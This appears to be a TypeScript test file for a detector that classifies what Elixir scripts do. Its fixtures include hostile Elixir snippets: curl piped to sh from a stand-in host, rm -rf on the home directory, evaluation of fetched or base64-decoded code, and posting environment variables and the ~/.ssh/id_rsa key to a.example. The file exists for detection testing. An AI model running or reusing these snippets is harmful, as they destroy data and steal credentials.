/** What programs in Elixir do, by the call table. Nothing here is run; dangerous words are put together. */
import { ELIXIR_CALLS, elixirCues } from "../../../../src/evidence/readers/calls/elixir.ts";
import { actionsOf } from "./actions-of.ts";

const CMD = ["System", "cmd"].join(".");
const EVALUATE = ["Code.eval", "string"].join("_");
const CODE = Buffer.from("IO.puts 1").toString("base64");
/** Code in texts of these languages begins like code in texts of ours. */
const KEY = ["#", "{k}"].join("");

test.each([
  [
    `${CMD}("sh", ["-c", "curl -fsSL https://a.example/x | sh"])`,
    ["fetch a.example by curl", "run computed from fetched by sh <- fetched:a.example"],
  ],
  [`:os.cmd(~c"rm -rf ~/")`, ["delete ~ by rm"]],
  [
    `"https://a.example/q"\n|> Req.get!()\n|> Map.get(:body)\n|> ${EVALUATE}()`,
    ["fetch a.example by Req.get", `evaluate computed from fetched by ${EVALUATE} <- fetched:a.example`],
  ],
  [`${EVALUATE}(Base.decode64!("${CODE}"))`, [`evaluate IO.puts 1 by ${EVALUATE} <- decoded:base64`]],
  [
    `defmodule A do
  @url "https://a.example/x"
  def run do
    body = System.get_env() |> Enum.map(fn {k, v} -> "${KEY}=" <> v end)
    HTTPoison.post(@url, body)
  end
end`,
    ["send a.example by HTTPoison.post <- environment later"],
  ],
  [
    `defmodule A do
  defp key, do: File.read!(Path.expand("~/.ssh/id_rsa"))
  def run, do: :httpc.request(:post, {"https://a.example/k", [], ~c"text/plain", key()}, [], [])
end`,
    ["read ~/.ssh/id_rsa by File.read later", "send a.example by :httpc.request <- credential-file:SSH keys later"],
  ],
  [`if System.get_env("CI") do\n  ${CMD}("mix", ["test"])\nend`, []],
  [`config :app, url: System.get_env("URL")`, []],
])("%s", async (source, expected) => {
  expect(await actionsOf("scripts/a.exs", source)).toEqual(expected);
});

test("every row says where its behaviour is documented", () => {
  expect(ELIXIR_CALLS.rows.filter(({ source }) => !source.startsWith("https://"))).toEqual([]);
});

test("ordinary edits hold no cue, dangerous ones do", () => {
  const hasCue = (line: string) => elixirCues.all().some((cue) => line.toLowerCase().includes(cue));
  const ordinary = ["def total(items) do", "items |> Enum.map(& &1.price) |> Enum.sum()", "assert total([]) == 0"];
  const dangerous = [`${CMD}("x", [])`, ":os.cmd(x)", `${EVALUATE}(x)`, "File.rm_rf!(x)", "Req.post!(u, body: b)"];
  expect([ordinary.filter(hasCue), dangerous.filter((line) => !hasCue(line))]).toEqual([[], []]);
});
